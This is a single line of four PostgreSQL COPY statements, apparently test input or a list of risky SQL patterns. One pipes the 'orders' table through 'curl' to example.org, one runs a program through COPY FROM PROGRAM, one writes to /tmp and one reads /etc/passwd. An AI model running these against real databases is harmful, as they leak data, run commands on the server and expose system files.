COPY orders TO PROGRAM 'curl -d @- example.org'; COPY orders FROM PROGRAM 'cat'; COPY orders TO '/tmp/x'; COPY orders FROM '/etc/passwd'
